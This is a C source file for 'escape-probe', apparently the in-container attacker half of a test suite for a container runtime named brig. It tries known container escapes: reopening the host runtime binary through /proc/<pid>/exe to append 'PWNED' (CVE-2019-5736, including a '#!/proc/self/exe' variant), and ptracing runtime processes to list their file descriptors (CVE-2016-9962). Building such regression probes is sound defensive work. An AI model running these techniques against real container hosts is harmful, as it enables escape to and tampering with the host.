/* escape-probe: the attacker side of tests/bats/escapes.bats, run inside a
 * container (built static, copied into the rootfs).  Every line it prints
 * starts with a word the tests grep for:
 *   seen      a brig process appeared in the container (the window exists)
 *   BREACH    the attack worked (the test fails on any such line)
 *   refused   an attempt the kernel denied (information)
 *
 *   escape-probe exe DEV INO SECONDS
 *     CVE-2019-5736: open /proc/<pid>/exe (O_PATH) of every other process;
 *     one that is the host file DEV:INO is kept and, once its process is
 *     gone (no more ETXTBSY), reopened for writing and appended to.
 *   escape-probe trace SECONDS
 *     CVE-2016-9962: ptrace (PTRACE_SEIZE) every brig process that shows
 *     up, and list its /proc/<pid>/fd.
 *   escape-probe gate FIFO DEV INO SECONDS
 *     CVE-2019-5736 through "#!/proc/self/exe": a script whose interpreter
 *     line is "#!/proc/self/exe --log=FIFO" holds whatever runs as its
 *     interpreter (brig's --log opens the FIFO) until this probe has opened
 *     /proc/<pid>/exe of every process whose command line names FIFO
 *     (BREACH if it is the host file DEV:INO); then it opens the FIFO to
 *     let it go, and tries to write through every exe it kept, while and
 *     after it runs (BREACH if a write lands anywhere).
 * A brig process is one whose argv[0] contains "brig". */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_KEPT 64

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void pause_ms(long ms) {
  struct timespec ts = {.tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000};
  nanosleep(&ts, NULL);
}

/* pid's command line into buf (NUL-separated, NUL-terminated); its length,
 * 0 when it cannot be read. */
static size_t read_cmdline(int pid, char *buf, size_t size) {
  char path[64];
  ssize_t n;
  int fd;

  snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
  fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return 0;
  n = read(fd, buf, size - 1);
  close(fd);
  if (n <= 0)
    return 0;
  buf[n] = '\0';
  return (size_t)n;
}

/* Whether pid's argv[0] names brig. */
static int is_brig(int pid) {
  char buf[512];
  return read_cmdline(pid, buf, sizeof(buf)) > 0 && strstr(buf, "brig");
}

/* Call fn for each pid in /proc but ours. */
static void each_pid(void (*fn)(int pid, void *data), void *data) {
  DIR *d = opendir("/proc");
  struct dirent *de;
  int self = getpid();

  if (d == NULL)
    return;
  while ((de = readdir(d)) != NULL) {
    char *end;
    long pid = strtol(de->d_name, &end, 10);
    if (*end != '\0' || pid <= 0 || pid == self)
      continue;
    fn((int)pid, data);
  }
  closedir(d);
}

struct seen {
  int pids[256];
  int n;
};

static int seen_once(struct seen *s, int pid) {
  for (int i = 0; i < s->n; i++)
    if (s->pids[i] == pid)
      return 0;
  if (s->n < 256)
    s->pids[s->n++] = pid;
  return 1;
}

/* ---- exe ---- */

struct exe_ctx {
  dev_t dev;
  ino_t ino;
  int kept[MAX_KEPT];
  int n_kept;
  struct seen brig, denied, other, opened;
};

static void try_exe(int pid, void *data) {
  struct exe_ctx *c = data;
  char path[64];
  struct stat st;
  int brig = is_brig(pid), fd;

  if (brig && seen_once(&c->brig, pid))
    printf("seen brig pid %d\n", pid);
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) {
    if (brig && seen_once(&c->denied, pid))
      printf("refused open %s: %s\n", path, strerror(errno));
    return;
  }
  if (fstat(fd, &st) == 0 && st.st_dev == c->dev && st.st_ino == c->ino) {
    if (!seen_once(&c->opened, pid) || c->n_kept >= MAX_KEPT) {
      close(fd);
      return;
    }
    printf("BREACH opened the host's brig through %s\n", path);
    c->kept[c->n_kept++] = fd;
    return;
  }
  if (brig && seen_once(&c->other, pid))
    printf("refused %s is not the host's brig (links %lu)\n", path,
           (unsigned long)st.st_nlink);
  close(fd);
}

static int mode_exe(dev_t dev, ino_t ino, double seconds) {
  struct exe_ctx c = {.dev = dev, .ino = ino};
  double end = now() + seconds;
  int written = 0;

  while (now() < end && !written) {
    each_pid(try_exe, &c);
    for (int i = 0; i < c.n_kept && !written; i++) {
      char path[64];
      int w;
      snprintf(path, sizeof(path), "/proc/self/fd/%d", c.kept[i]);
      w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w < 0)
        continue; /* ETXTBSY while brig runs it */
      if (write(w, "PWNED\n", 6) == 6) {
        printf("BREACH wrote to the host's brig\n");
        written = 1;
      }
      close(w);
    }
    fflush(stdout);
    pause_ms(2);
  }
  printf("done\n");
  return 0;
}

/* ---- trace ---- */

struct trace_ctx {
  struct seen brig, traced, fds;
};

static void try_trace(int pid, void *data) {
  struct trace_ctx *c = data;
  char path[64];
  DIR *d;

  if (!is_brig(pid))
    return;
  if (seen_once(&c->brig, pid))
    printf("seen brig pid %d\n", pid);
  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
    int status;
    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    waitpid(pid, &status, __WALL);
    /* Stopped: still brig, or did it exec first? */
    if (is_brig(pid) && seen_once(&c->traced, pid))
      printf("BREACH ptraced brig pid %d\n", pid);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
  } else if (seen_once(&c->traced, -pid)) {
    printf("refused ptrace of brig pid %d: %s\n", pid, strerror(errno));
  }
  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
  d = opendir(path);
  if (d == NULL) {
    if (seen_once(&c->fds, -pid))
      printf("refused open %s: %s\n", path, strerror(errno));
    return;
  }
  {
    char lines[4096] = "";
    size_t used = 0;
    struct dirent *de;
    while ((de = readdir(d)) != NULL) {
      char link[512], target[256];
      ssize_t n;
      if (de->d_name[0] == '.')
        continue;
      snprintf(link, sizeof(link), "%s/%s", path, de->d_name);
      n = readlink(link, target, sizeof(target) - 1);
      if (n < 0)
        continue;
      target[n] = '\0';
      used += (size_t)snprintf(lines + used, sizeof(lines) - used,
                               "  fd %s -> %s\n", de->d_name, target);
      if (used >= sizeof(lines))
        used = sizeof(lines) - 1;
    }
    closedir(d);
    if (used > 0 && is_brig(pid) && seen_once(&c->fds, pid))
      printf("BREACH read the fds of brig pid %d:\n%s", pid, lines);
  }
}

static int mode_trace(double seconds) {
  struct trace_ctx c = {0};
  double end = now() + seconds;

  while (now() < end) {
    each_pid(try_trace, &c);
    fflush(stdout);
    pause_ms(2);
  }
  printf("done\n");
  return 0;
}

/* ---- gate ---- */

/* Whether pid's whole command line contains name. */
static int cmdline_names(int pid, const char *name) {
  char buf[1024];
  size_t n = read_cmdline(pid, buf, sizeof(buf));

  for (size_t i = 0; i < n; i++)
    if (buf[i] == '\0')
      buf[i] = ' ';
  return n > 0 && strstr(buf, name) != NULL;
}

struct gate_ctx {
  const char *name;
  dev_t dev;
  ino_t ino;
  int kept[MAX_KEPT];
  int n_kept;
  struct seen seen;
};

static void try_gate(int pid, void *data) {
  struct gate_ctx *c = data;
  char path[64], target[256] = "";
  struct stat st;
  ssize_t n;
  int fd;

  if (!cmdline_names(pid, c->name) || !seen_once(&c->seen, pid))
    return;
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  n = readlink(path, target, sizeof(target) - 1);
  if (n > 0)
    target[n] = '\0';
  printf("seen interpreter pid %d exe %s\n", pid, target);
  fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) {
    printf("refused open %s: %s\n", path, strerror(errno));
    return;
  }
  if (fstat(fd, &st) == 0 && st.st_dev == c->dev && st.st_ino == c->ino)
    printf("BREACH opened the host's brig through %s\n", path);
  else
    printf("refused %s is not the host's brig\n", path);
  if (c->n_kept < MAX_KEPT)
    c->kept[c->n_kept++] = fd;
  else
    close(fd);
}

static int mode_gate(const char *fifo, dev_t dev, ino_t ino, double seconds) {
  struct gate_ctx c = {.name = fifo, .dev = dev, .ino = ino};
  int last_errno[MAX_KEPT] = {0}, written[MAX_KEPT] = {0};
  double end = now() + seconds;
  int gate = -1;

  while (now() < end) {
    char buf[512];
    each_pid(try_gate, &c);
    /* Let it go only once it has been tried. */
    if (gate < 0 && c.seen.n > 0) {
      gate = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
      printf("released %s\n", gate >= 0 ? "the gate" : strerror(errno));
    }
    while (gate >= 0 && read(gate, buf, sizeof(buf)) > 0)
      ;
    for (int i = 0; i < c.n_kept; i++) {
      char path[64];
      int w, e = 0;
      if (written[i])
        continue;
      snprintf(path, sizeof(path), "/proc/self/fd/%d", c.kept[i]);
      w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w < 0) {
        e = errno;
      } else if (write(w, "PWNED\n", 6) == 6) {
        printf("BREACH wrote to the exe kept as fd %d\n", c.kept[i]);
        written[i] = 1;
      } else {
        e = errno;
      }
      if (w >= 0)
        close(w);
      if (e != 0 && e != last_errno[i]) {
        printf("refused write to the exe kept as fd %d: %s\n", c.kept[i],
               strerror(e));
        last_errno[i] = e;
      }
    }
    fflush(stdout);
    pause_ms(2);
  }
  printf("done\n");
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 5 && strcmp(argv[1], "exe") == 0)
    return mode_exe((dev_t)strtoull(argv[2], NULL, 0),
                    (ino_t)strtoull(argv[3], NULL, 0), atof(argv[4]));
  if (argc == 3 && strcmp(argv[1], "trace") == 0)
    return mode_trace(atof(argv[2]));
  if (argc == 6 && strcmp(argv[1], "gate") == 0)
    return mode_gate(argv[2], (dev_t)strtoull(argv[3], NULL, 0),
                     (ino_t)strtoull(argv[4], NULL, 0), atof(argv[5]));
  fprintf(stderr, "usage: escape-probe exe DEV INO SECONDS | trace SECONDS | "
                  "gate FIFO DEV INO SECONDS\n");
  return 2;
}
